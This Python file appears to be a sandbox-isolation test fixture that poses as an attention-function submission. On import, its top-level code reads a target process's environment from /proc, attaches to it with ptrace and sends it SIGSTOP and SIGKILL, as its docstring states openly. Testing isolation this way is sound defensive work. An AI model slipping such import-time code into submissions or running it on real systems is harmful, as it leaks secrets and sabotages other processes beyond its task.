"""Attacks a process that is not part of grading (its pid in targets.txt, written by the test; it runs
as `nobody`): reads its environment, attaches to it with ptrace, and kills it."""
import ctypes
import math
import os
import signal

import torch

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "targets.txt")) as fh:
    PID = int(fh.read().split()[0])
print("my uid", os.getuid())
try:
    with open(f"/proc/{PID}/environ", "rb") as fh:
        print("ENVIRON", fh.read().replace(b"\0", b" ").decode(errors="replace"))
except OSError as exc:
    print("environ:", type(exc).__name__)
libc = ctypes.CDLL(None, use_errno=True)
print("ptrace attach:", libc.ptrace(16, PID, None, None), "errno", ctypes.get_errno())  # PTRACE_ATTACH
for sig in (signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(PID, sig)
        print("sent", sig.name)
    except OSError as exc:
        print("kill:", type(exc).__name__)


def attention(Q, K, V, mask=None):
    scores = Q @ K.transpose(-2, -1) / math.sqrt(Q.size(-1))
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    return torch.softmax(scores, dim=-1) @ V
